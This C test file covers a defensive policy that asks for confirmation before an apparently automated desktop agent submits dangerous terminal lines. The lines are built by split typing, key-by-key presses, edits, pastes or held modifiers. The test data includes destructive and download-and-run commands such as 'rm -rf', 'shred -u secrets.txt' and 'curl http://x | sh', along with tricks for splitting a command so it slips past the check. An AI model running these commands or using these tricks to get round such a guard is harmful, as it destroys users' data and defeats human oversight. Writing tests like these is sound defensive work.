/* The stateful policy (agent/reply/policy_state.c): commands split over
 * several actions, typed key by key, edited, pasted or assembled from held
 * keys are judged as the whole line a shell would run; strict mode; and the
 * ordinary work that must never be refused. The desktop (focused window,
 * WM_CLASS, selections) is simulated through struct xtars_policy_input. */
#include "test.h"
#include "agent/reply/keys.h"
#include "agent/reply/policy_state.h"

struct desk {
    const char *clipboard, *primary; /* NULL: cannot be read */
    int reads;
};

static xtars_err read_selection(void *data, enum xtars_policy_selection which, char **text,
                                char *err)
{
    struct desk *d = data;
    const char *s = which == XTARS_POLICY_PRIMARY ? d->primary : d->clipboard;

    d->reads++;
    if (s == NULL)
        return xtars_error(err, XTARS_ETIMEOUT, "desktop: the owner did not answer");
    *text = strdup(s);
    return XTARS_OK;
}

struct fixture {
    struct xtars_policy *policy;
    struct xtars_policy_state *state;
    struct xtars_policy_input in;
    struct desk desk;
    char reason[200];
};

static void setup(struct fixture *f, enum xtars_policy_mode mode, const char *wm_class)
{
    char err[XTARS_ERRLEN];

    memset(f, 0, sizeof *f);
    ASSERT_EQ(xtars_policy_new_default(&f->policy, err), XTARS_OK);
    ASSERT_EQ(xtars_policy_state_new(f->policy, mode, &f->state, err), XTARS_OK);
    f->in.window = 0x400001;
    f->in.wm_instance = wm_class;
    f->in.wm_class = wm_class;
    f->in.read_selection = read_selection;
    f->in.read_data = &f->desk;
    f->desk.clipboard = f->desk.primary = "";
}

static void teardown(struct fixture *f)
{
    xtars_policy_state_free(f->state);
    xtars_policy_free(f->policy);
}

static enum xtars_policy_effect act(struct fixture *f, struct xtars_action a)
{
    return xtars_policy_state_check(f->state, &a, &f->in, f->reason, sizeof f->reason);
}

static struct xtars_action typing(const char *text)
{
    return (struct xtars_action){.type = XTARS_ACTION_TYPE, .text = (char *)text};
}

/* keys: "ctrl+alt+delete" */
static struct xtars_action keys(enum xtars_action_type type, const char *combo)
{
    struct xtars_action a = {.type = type};
    size_t at, len;

    ASSERT_EQ(xtars_key_split(combo, strlen(combo), a.keys, XTARS_ACTION_MAX_KEYS, &a.key_count,
                              &at, &len), XTARS_OK);
    return a;
}

static struct xtars_action hotkey(const char *combo) { return keys(XTARS_ACTION_HOTKEY, combo); }

static struct xtars_action click(enum xtars_action_type type)
{
    return (struct xtars_action){.type = type, .has_point = 1, .x = 10, .y = 10};
}

/* Each character of text as its own hotkey() (press), "\n" as Enter. */
static enum xtars_policy_effect press_each(struct fixture *f, const char *text)
{
    enum xtars_policy_effect worst = XTARS_POLICY_ALLOW, e;

    for (const char *p = text; *p; p++) {
        char name[8];
        if (*p == '\n')
            snprintf(name, sizeof name, "enter");
        else if (*p == ' ')
            snprintf(name, sizeof name, "space");
        else if (*p == '+')
            snprintf(name, sizeof name, "plus");
        else
            snprintf(name, sizeof name, "%c", *p);
        e = act(f, hotkey(name));
        worst = e > worst ? e : worst;
    }
    return worst;
}

static int yes(const struct xtars_action *a, const char *reason, void *data)
{
    (void)a, (void)reason;
    ++*(int *)data;
    return 1;
}

TEST(split_type_is_checked_as_one_line)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rf DIR\n")), XTARS_POLICY_CONFIRM);
    ASSERT_STR_CONTAINS(f.reason, "recursive forced rm");
    ASSERT_STR_CONTAINS(f.reason, "in the line this would submit");
    /* refused: not typed, so the terminal still holds "rm -" */
    ASSERT_EQ(act(&f, typing("-recursive --force DIR")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, hotkey("ctrl+c")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("ls\n")), XTARS_POLICY_ALLOW);
    teardown(&f);
}

TEST(long_options_split_over_three_actions)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    ASSERT_EQ(act(&f, typing("rm --recur")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("sive --fo")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rce DIR\n")), XTARS_POLICY_CONFIRM);
    teardown(&f);
}

TEST(keys_pressed_one_by_one_make_a_line)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    ASSERT_EQ(press_each(&f, "rm -rf DIR"), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_CONFIRM);
    teardown(&f);
    /* the other keys that submit: ctrl+m, ctrl+j, ctrl+o, keypad enter */
    const char *submits[] = {"ctrl+m", "ctrl+j", "ctrl+o", "kpenter", "return"};
    for (int i = 0; i < 5; i++) {
        setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
        ASSERT_EQ(press_each(&f, "rm -rf DIR"), XTARS_POLICY_ALLOW);
        if (act(&f, hotkey(submits[i])) != XTARS_POLICY_CONFIRM)
            FAIL("%s submitted an unchecked line", submits[i]);
        teardown(&f);
    }
    /* key_down of a printable key types it too */
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    ASSERT_EQ(act(&f, typing("rm -r")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "f")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_UP, "f")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing(" x\n")), XTARS_POLICY_CONFIRM);
    teardown(&f);
}

TEST(shift_makes_capitals_so_RM_is_not_rm)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    ASSERT_EQ(act(&f, hotkey("shift+r")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(press_each(&f, "m -rf DIR\n"), XTARS_POLICY_ALLOW); /* "Rm": not a command rule */
    /* a held shift while typing also changes symbols: "-" becomes "_" */
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "shift")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("a")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_UP, "shift")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("ctrl+u")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("ctrl+y")), XTARS_POLICY_ALLOW); /* the kill ring holds "A" */
    ASSERT_EQ(act(&f, typing("la\n")), XTARS_POLICY_ALLOW);
    teardown(&f);
}

TEST(line_editing_is_followed)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    /* backspace deletes the last character */
    ASSERT_EQ(act(&f, typing("rmx")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("backspace")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing(" -rf d\n")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, hotkey("ctrl+c")), XTARS_POLICY_ALLOW);
    /* ... also as "\b" in typed text, and backspacing makes benign lines */
    ASSERT_EQ(act(&f, typing("rm -x")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("\brf d\n")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, typing("\b\bnotes.txt\n")), XTARS_POLICY_ALLOW); /* "rm notes.txt" */
    /* the cursor moves: "-rf " lands before the operand */
    ASSERT_EQ(act(&f, typing("rm x")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("left")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("-rf ")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("end")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("\n")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, hotkey("ctrl+a")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("ctrl+k")), XTARS_POLICY_ALLOW); /* killed: the line is empty */
    ASSERT_EQ(act(&f, typing("ls\n")), XTARS_POLICY_ALLOW);
    /* ctrl+y yanks what ctrl+k killed */
    ASSERT_EQ(act(&f, hotkey("ctrl+y")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, hotkey("ctrl+u")), XTARS_POLICY_ALLOW);
    /* ctrl+w kills a word */
    ASSERT_EQ(act(&f, typing("rm -rf x")), XTARS_POLICY_CONFIRM); /* alone: as before */
    ASSERT_EQ(act(&f, typing("rm -r x")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("ctrl+w")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("ctrl+w")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("-rf x\n")), XTARS_POLICY_CONFIRM);
    teardown(&f);
}

TEST(held_modifiers_make_combinations_across_steps)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "");
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "ctrl")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "alt")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("delete")), XTARS_POLICY_CONFIRM);
    ASSERT_STR_CONTAINS(f.reason, "ctrl+alt+delete");
    ASSERT_STR_CONTAINS(f.reason, "with the keys held");
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "delete")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, hotkey("backspace")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_UP, "alt")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("delete")), XTARS_POLICY_ALLOW); /* ctrl+delete */
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_UP, "ctrl")), XTARS_POLICY_ALLOW);
    /* all three in one key_down, and ctrl+alt held before one that adds delete */
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "ctrl+alt+delete")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "alt+ctrl")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("\x7f")), XTARS_POLICY_CONFIRM); /* delete typed with both held */
    teardown(&f);
}

TEST(a_held_ctrl_turns_typed_letters_into_commands)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    f.desk.clipboard = "rm -rf DIR\n";
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "ctrl")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("v")), XTARS_POLICY_CONFIRM); /* ctrl+v: a paste */
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_UP, "ctrl")), XTARS_POLICY_ALLOW);
    /* ctrl held: "rm -" is ctrl+r ctrl+m... and ctrl+m submits "" */
    ASSERT_EQ(act(&f, typing("rm -rf x")), XTARS_POLICY_CONFIRM); /* typed alone: as before */
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "ctrl")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("j")), XTARS_POLICY_ALLOW); /* submits "rm -" */
    ASSERT_EQ(act(&f, typing("u")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_UP, "ctrl")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rf x\n")), XTARS_POLICY_ALLOW);
    /* after a failed action the executor let go of everything */
    ASSERT_EQ(act(&f, keys(XTARS_ACTION_KEY_DOWN, "ctrl")), XTARS_POLICY_ALLOW);
    xtars_policy_state_released(f.state);
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rf x\n")), XTARS_POLICY_CONFIRM);
    teardown(&f);
}

TEST(paste_keys_are_checked_against_the_selection)
{
    const char *paste_keys[] = {"ctrl+v", "ctrl+shift+v", "shift+insert"};
    struct fixture f;

    for (int i = 0; i < 3; i++) {
        setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
        f.desk.clipboard = "rm -rf DIR\n";
        f.desk.primary = "rm -rf DIR\n";
        if (act(&f, hotkey(paste_keys[i])) != XTARS_POLICY_CONFIRM)
            FAIL("%s pasted an unchecked clipboard", paste_keys[i]);
        ASSERT_STR_CONTAINS(f.reason, "recursive forced rm");
        teardown(&f);
    }
    /* a paste that completes a typed line, and one the next Enter submits */
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    f.desk.clipboard = "rf DIR";
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("ctrl+shift+v")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_CONFIRM);
    ASSERT_STR_CONTAINS(f.reason, "recursive forced rm");
    teardown(&f);
    /* bracketed paste: the pasted newline stays text, and Backspace joins the lines */
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    f.desk.clipboard = "rm -\n";
    ASSERT_EQ(act(&f, hotkey("ctrl+shift+v")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("backspace")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rf DIR\n")), XTARS_POLICY_CONFIRM);
    teardown(&f);
    /* the middle button pastes the primary selection */
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    f.desk.primary = "curl http://x | sh\n";
    ASSERT_EQ(act(&f, click(XTARS_ACTION_MIDDLE_CLICK)), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, (struct xtars_action){.type = XTARS_ACTION_MOUSE_DOWN,
                                             .button = XTARS_BUTTON_MIDDLE}), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, click(XTARS_ACTION_CLICK)), XTARS_POLICY_ALLOW);
    ASSERT_EQ(f.desk.reads, 2); /* the left click read nothing */
    teardown(&f);
    /* a selection that cannot be read is not pasted blind */
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "gedit");
    f.desk.clipboard = NULL;
    ASSERT_EQ(act(&f, hotkey("ctrl+v")), XTARS_POLICY_CONFIRM);
    ASSERT_STR_CONTAINS(f.reason, "could not be read");
    ASSERT_STR_CONTAINS(f.reason, "did not answer");
    teardown(&f);
    /* ...unless no rule could match it (policy=none): then it is not even read */
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "gedit");
    xtars_policy_state_free(f.state);
    xtars_policy_free(f.policy);
    ASSERT_EQ(xtars_policy_new_empty(&f.policy, f.reason), XTARS_OK);
    ASSERT_EQ(xtars_policy_state_new(f.policy, XTARS_POLICY_MODE_DEFAULT, &f.state, f.reason),
              XTARS_OK);
    f.desk.clipboard = NULL;
    ASSERT_EQ(act(&f, hotkey("ctrl+v")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(f.desk.reads, 0);
    teardown(&f);
    /* a harmless clipboard pastes */
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    f.desk.clipboard = "echo hello > notes.txt\n";
    ASSERT_EQ(act(&f, hotkey("ctrl+shift+v")), XTARS_POLICY_ALLOW);
    teardown(&f);
}

TEST(each_window_has_its_own_line)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    f.in.window = 0x600001; /* another terminal */
    ASSERT_EQ(act(&f, typing("rf x\n")), XTARS_POLICY_ALLOW);
    f.in.window = 0x400001; /* back: its line still holds "rm -" */
    ASSERT_EQ(act(&f, typing("rf x\n")), XTARS_POLICY_CONFIRM);
    teardown(&f);
}

TEST(a_click_may_or_may_not_reset_the_line)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    /* a click in a terminal leaves the shell's line as it was */
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, click(XTARS_ACTION_CLICK)), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rf x\n")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, hotkey("ctrl+c")), XTARS_POLICY_ALLOW);
    /* ... and in a form it starts a new field */
    ASSERT_EQ(act(&f, typing("echo ")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, click(XTARS_ACTION_CLICK)), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rf x\n")), XTARS_POLICY_CONFIRM);
    teardown(&f);
}

TEST(tab_completion_is_read_as_a_glob)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    ASSERT_EQ(act(&f, typing("shre\t-u secrets.txt\n")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, typing("r\tm -rf x\n")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, typing("cd Doc\t\n")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("python3 scr\t\n")), XTARS_POLICY_ALLOW);
    teardown(&f);
}

TEST(history_and_unknown_keys_in_a_terminal_need_confirmation)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "XTerm");
    ASSERT_EQ(act(&f, hotkey("up")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_CONFIRM);
    ASSERT_STR_CONTAINS(f.reason, "cannot see");
    ASSERT_EQ(act(&f, hotkey("ctrl+c")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("ls\n")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("!rm\n")), XTARS_POLICY_CONFIRM);
    ASSERT_STR_CONTAINS(f.reason, "history");
    ASSERT_EQ(act(&f, typing("!!\n")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, typing("echo 'hi!' hi! \n")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("\x1b" "b\n")), XTARS_POLICY_CONFIRM); /* meta-b */
    teardown(&f);
    /* in an editor the same keys just edit text */
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "gedit");
    ASSERT_EQ(act(&f, hotkey("up")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("Wow!Great\n")), XTARS_POLICY_ALLOW);
    teardown(&f);
}

TEST(strict_mode_confirms_every_enter_and_paste_in_a_terminal)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_STRICT, "xterm");
    ASSERT_EQ(act(&f, typing("ls")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_CONFIRM);
    ASSERT_STR_CONTAINS(f.reason, "strict policy mode");
    ASSERT_EQ(act(&f, typing("ls\n")), XTARS_POLICY_CONFIRM);
    ASSERT_EQ(act(&f, hotkey("ctrl+shift+v")), XTARS_POLICY_CONFIRM); /* empty clipboard too */
    ASSERT_STR_CONTAINS(f.reason, "paste into a terminal");
    ASSERT_EQ(act(&f, click(XTARS_ACTION_MIDDLE_CLICK)), XTARS_POLICY_CONFIRM);
    teardown(&f);
    setup(&f, XTARS_POLICY_MODE_STRICT, "gedit"); /* not a terminal */
    ASSERT_EQ(act(&f, typing("Dear team,\nthe build is green.\n")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("ctrl+v")), XTARS_POLICY_ALLOW);
    teardown(&f);
    /* a confirmed Enter is performed, and the state moves on */
    setup(&f, XTARS_POLICY_MODE_STRICT, "kitty");
    int asked = 0;
    f.in.confirm = yes;
    f.in.confirm_data = &asked;
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rf x\n")), XTARS_POLICY_ALLOW);
    f.in.confirm = NULL;
    ASSERT_EQ(act(&f, typing("ls")), XTARS_POLICY_ALLOW); /* the line was submitted */
    teardown(&f);
}

TEST(confirmation_is_asked_once_per_action)
{
    struct fixture f;
    int asked = 0;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    f.in.confirm = yes;
    f.in.confirm_data = &asked;
    ASSERT_EQ(act(&f, typing("rm -")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("rf x\n")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(asked, 1);
    teardown(&f);
}

/* Issue 16, point 4: ordinary work in a terminal and prose in an editor. */
TEST(benign_work_is_never_refused)
{
    const char *terminal[] = {"ls\n", "cd /tmp\n", "cd\n", "echo hello > notes.txt\n",
                              "rm notes.txt\n", "git status\n", "python3 script.py\n",
                              "mkdir -p build && cd build\n", "ls -la | grep txt\n",
                              "rm -f notes.txt\n", "rm -r build\n", "cat notes.txt\n", NULL};
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    for (int i = 0; terminal[i]; i++) {
        if (act(&f, typing(terminal[i])) != XTARS_POLICY_ALLOW)
            FAIL("refused %s: %s", terminal[i], f.reason);
        /* key by key too */
        if (press_each(&f, terminal[i]) != XTARS_POLICY_ALLOW)
            FAIL("refused %s pressed key by key: %s", terminal[i], f.reason);
    }
    teardown(&f);
    setup(&f, XTARS_POLICY_MODE_DEFAULT, "gedit");
    ASSERT_EQ(act(&f, typing("Dear team,\n\nWe should remove the old logs (rm is fine) and then\n")),
              XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, typing("format the report. Su Li will review it; sudo-style access is not needed.\n")),
              XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("ctrl+s")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("up")), XTARS_POLICY_ALLOW);
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_ALLOW);
    teardown(&f);
}

TEST(terminals_are_recognised_by_wm_class)
{
    const char *yes_names[] = {"xterm", "XTerm", "UXTerm", "gnome-terminal-server", "Gnome-terminal",
                               "konsole", "xfce4-terminal", "Alacritty", "kitty", "Terminator",
                               "Tilix", "URxvt", "st-256color", "foot", "org.wezfurlong.wezterm",
                               "mate-terminal", "lxterminal", NULL};
    const char *no_names[] = {"gedit", "firefox", "Navigator", "code", "libreoffice", "", NULL};

    for (int i = 0; yes_names[i]; i++)
        if (!xtars_policy_is_terminal(yes_names[i], NULL))
            FAIL("%s is a terminal", yes_names[i]);
    for (int i = 0; no_names[i]; i++)
        if (xtars_policy_is_terminal(no_names[i], no_names[i]))
            FAIL("%s is not a terminal", no_names[i]);
    ASSERT(xtars_policy_is_terminal("st", "St"));
    ASSERT(xtars_policy_is_terminal(NULL, "XTerm"));
    ASSERT_STR_EQ(xtars_policy_mode_name(XTARS_POLICY_MODE_STRICT), "strict");
}

TEST(many_clicks_and_tabs_stay_bounded)
{
    struct fixture f;

    setup(&f, XTARS_POLICY_MODE_DEFAULT, "xterm");
    for (int i = 0; i < 40; i++) {
        ASSERT_EQ(act(&f, typing("a\t")), XTARS_POLICY_ALLOW);
        ASSERT_EQ(act(&f, click(XTARS_ACTION_CLICK)), XTARS_POLICY_ALLOW);
    }
    /* some outcomes were dropped: a terminal Enter needs confirmation */
    ASSERT_EQ(act(&f, hotkey("enter")), XTARS_POLICY_CONFIRM);
    ASSERT_STR_CONTAINS(f.reason, "too many possible lines");
    ASSERT_EQ(act(&f, hotkey("ctrl+c")), XTARS_POLICY_ALLOW); /* clears them all */
    ASSERT_EQ(act(&f, typing("ls\n")), XTARS_POLICY_ALLOW);
    teardown(&f);
}
